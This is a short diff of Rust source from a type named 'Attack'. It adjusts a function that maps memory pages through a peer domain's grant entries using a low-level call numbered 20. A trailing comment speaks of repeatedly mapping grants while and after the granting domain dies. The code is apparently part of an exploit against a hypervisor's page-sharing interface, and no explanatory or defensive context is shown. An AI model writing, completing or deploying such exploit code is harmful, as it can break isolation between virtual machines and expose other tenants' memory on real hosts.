@@ -40,10 +40,10 @@ impl Attack {
 
     /// Maps a page by the peer's entry. Its handle, unless that is refused.
     fn map_entry(&self, address: u64, entry: u64) -> Option<u64> {
-        put(arena(), &[address, 2 | entry << 32, self.peer, 0xffff, 0]);
+        put(arena(), &[address, 2 | entry << 32, self.peer | 0xffff << 16, 0]);
         self.call(20, [0, arena(), 1, 0, 0, 0]);
-        let answer = peek(arena() + 24);
-        (answer & 0xffff == 0).then_some(answer >> 32)
+        let answer = peek(arena() + 16);
+        (answer >> 16 & 0xffff == 0).then_some(answer >> 32)
     }
 
     /// Maps what the domain before it grants, again and again, while and after that one dies, and keeps
